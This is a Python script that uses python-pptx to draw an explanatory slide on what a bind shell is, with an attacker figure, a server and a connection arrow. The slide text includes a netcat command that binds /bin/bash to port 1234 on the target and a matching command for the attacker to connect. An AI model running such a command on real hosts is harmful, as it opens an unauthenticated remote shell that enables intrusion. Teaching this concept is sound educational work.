
from pptx import Presentation
from pptx.dml.color import RGBColor
from pptx.enum.shapes import MSO_CONNECTOR, MSO_SHAPE
from pptx.enum.text import MSO_ANCHOR, PP_ALIGN
from pptx.oxml.ns import qn
from pptx.util import Pt
from lxml import etree

RECT = MSO_SHAPE.RECTANGLE
ROUND = MSO_SHAPE.ROUNDED_RECTANGLE
OVAL = MSO_SHAPE.OVAL
FONT = "Calibri"
STEPS = 12  # line segments per curve


def rgb(value):
    return RGBColor.from_string(value)


def paint(sp, color):
    sp.fill.solid()
    sp.fill.fore_color.rgb = rgb(color)
    sp.line.fill.background()
    sp.shadow.inherit = False


prs = Presentation()
prs.slide_width, prs.slide_height = Pt(960), Pt(540)
s = prs.slides.add_slide(prs.slide_layouts[5])
s.background.fill.solid()
s.background.fill.fore_color.rgb = rgb("F2F2F2")

# Title
title = s.shapes.title
title.left, title.top, title.width, title.height = Pt(175.7), Pt(19.4), Pt(608.4), Pt(62.6)
title.fill.solid()
title.fill.fore_color.rgb = rgb("FFFFFF")
title.line.color.rgb = rgb("404040")
title.line.width = Pt(2.5)
tf = title.text_frame
tf.text = "WHAT IS BIND SHELL ?"
tf.vertical_anchor = MSO_ANCHOR.MIDDLE
tf.margin_left = tf.margin_right = tf.margin_top = tf.margin_bottom = Pt(14.4)
p = tf.paragraphs[0]
p.alignment = PP_ALIGN.CENTER
p.line_spacing = 0.9
r = p.runs[0]
r.font.name, r.font.size, r.font.color.rgb = FONT, Pt(39.6), rgb("262626")
r.font._element.set("spc", "200")

# Server: cabinet, then four drive rows
server = s.shapes.add_group_shape().shapes
cabinet = [
    (ROUND, 777.6, 276.5, 96.5, 135.4, 0.04, "323241"),
    (ROUND, 787.7, 408, 75.6, 19, 0.15, "E2E7F4"),
    (ROUND, 777.6, 278.6, 96.5, 135.4, 0.04, "525074"),
    (RECT, 790.6, 275, 74.2, 2.2, None, "B1C0E0"),
]
for middle, shift in [(298.8, 0), (328.3, 0), (361.4, 0.9), (393.1, 0.9)]:
    cabinet += [
        (ROUND, 794 + shift, middle - 5.3, 60, 10.6, 0.5, "E7EBF6"),
        (ROUND, 786.2 + shift, middle - 9.2, 2.6, 18.2, 0.3, "EEEDED"),
        (OVAL, 857.5 + shift, middle - 4.7, 9.4, 9.4, None, "D7E0F5"),
    ]

# Attacker: a point is a straight side, six numbers are a cubic curve
hood_top = [
    (197, 320, 194, 303, 177.8, 285.8), (170, 277, 160, 269.3, 150.5, 269.3),
    (140, 269, 127, 274, 117.4, 287.3), (109, 297, 103, 309, 100.8, 321.8),
]
body = [
    (223.9, 411.1), (222, 403, 217, 394, 213.8, 388.1),
    (208, 379, 203, 370, 197.3, 363.6), (194, 360, 188, 358, 184.3, 357.1),
    (190, 351, 196, 342, 195.8, 333.4), *hood_top,
    (98, 338, 104, 349, 112.3, 357.1), (105, 359.5, 101, 361, 97.9, 366.5),
    (92, 374, 87, 383, 82.8, 389.5), (79, 397, 75, 406, 72.7, 414),
    (71, 423, 78, 428, 96.5, 432.7), (96.5, 379), (198.7, 379), (198.7, 432.7),
    (207, 430, 215, 427, 221, 421.9), (225, 417, 225, 415, 223.9, 411.1),
]
hood = [
    (195.8, 333.4), *hood_top, (100.8, 329.8),
    (110, 325, 122, 321.5, 132.5, 320.4), (145, 318, 155, 319, 164.9, 321.1),
    (177, 323, 187, 328, 195.8, 333.4),
]
face = [
    (124.6, 326.9), (129, 331, 134, 331, 137.5, 329.8),
    (145, 326, 150, 326, 154.1, 327.6), (162, 331, 168, 331, 172.8, 326.2),
    (171.5, 343, 162, 352.8, 151.2, 352.8), (137, 353, 126, 343, 124.6, 326.9),
]
left_eye = [
    (131, 320.4), (134, 320, 139, 319.5, 142.6, 319.7),
    (144.5, 323, 143, 325.5, 136.1, 325.4), (134, 325, 132, 323, 131, 320.4),
]
right_eye = [
    (154.8, 319.7), (158, 319.7, 162, 320.3, 165.6, 321.1),
    (164, 325, 162, 326, 155.5, 324.7), (153, 323.5, 153, 322, 154.8, 319.7),
]
attacker = s.shapes.add_group_shape().shapes
for outline, color in [(body, "000000"), (hood, "404040"), (face, "808080"),
                       (left_eye, "808080"), (right_eye, "808080")]:
    points = [outline[0]]
    for part in outline[1:]:
        if len(part) == 2:
            points.append(part)
            continue
        x0, y0 = points[-1]
        x1, y1, x2, y2, x3, y3 = part
        for step in range(1, STEPS + 1):
            t = step / STEPS
            a, b, c, d = (1 - t) ** 3, 3 * t * (1 - t) ** 2, 3 * t * t * (1 - t), t ** 3
            points.append((a * x0 + b * x1 + c * x2 + d * x3,
                           a * y0 + b * y1 + c * y2 + d * y3))
    corners = [(Pt(x), Pt(y)) for x, y in points]
    builder = attacker.build_freeform(*corners[0])
    builder.add_line_segments(corners[1:], close=True)
    paint(builder.convert_to_shape(), color)

laptop = [
    (ROUND, 96.5, 378.7, 103, 59.8, 0.06, "595959"),
    (RECT, 99.4, 438.5, 96.5, 2.2, None, "262626"),
    (ROUND, 96.5, 440.6, 103, 3.6, 0.3, "595959"),
]
for group, parts in [(server, cabinet), (attacker, laptop)]:
    for kind, x, y, w, h, corner, color in parts:
        sp = group.add_shape(kind, Pt(x), Pt(y), Pt(w), Pt(h))
        if corner is not None:
            sp.adjustments[0] = corner
        paint(sp, color)

# Connection arrow
arrow = s.shapes.add_connector(MSO_CONNECTOR.STRAIGHT, Pt(203), Pt(349.9), Pt(760.3), Pt(349.9))
arrow.line.color.rgb = rgb("00B0F0")
arrow.line.width = Pt(4.5)
etree.SubElement(arrow.line._get_or_add_ln(), qn("a:tailEnd"), type="triangle")
etree.SubElement(arrow._element.spPr, qn("a:effectLst"))

# Texts, the commands on black bars
texts = [
    ("A bind shell is set up on the target host and binds to a specific port to listens "
     "for an incoming connection from the attacker.",
     175.7, 121, 608.4, 93.6, 24, "000000", None),
    ("Attacker Connects to target on port 1234", 265.7, 309.6, 608.4, 36, 24, "000000", None),
    (" nc –lvp 1234 –e /bin/bash", 666, 442.8, 274.3, 28.8, 18, "00FF00", "000000"),
    (" nc –v <Server IP> 1234", 51.8, 446.4, 260.6, 28.8, 18, "00FF00", "000000"),
    ("Server", 789.1, 241.9, 74.2, 28.8, 18, "FF0000", None),
    ("Attacker", 107.3, 235.4, 105.1, 28.8, 18, "FF0000", None),
]
for text, x, y, w, h, size, color, bar in texts:
    box = Pt(x), Pt(y), Pt(w), Pt(h)
    if bar:
        sp = s.shapes.add_shape(RECT, *box)
        paint(sp, bar)
    else:
        sp = s.shapes.add_textbox(*box)
    tf = sp.text_frame
    tf.text = text
    tf.word_wrap = True
    tf.vertical_anchor = MSO_ANCHOR.TOP
    p = tf.paragraphs[0]
    p.alignment = PP_ALIGN.LEFT
    p.font.name, p.font.size, p.font.color.rgb = FONT, Pt(size), rgb(color)

prs.save("out.pptx")
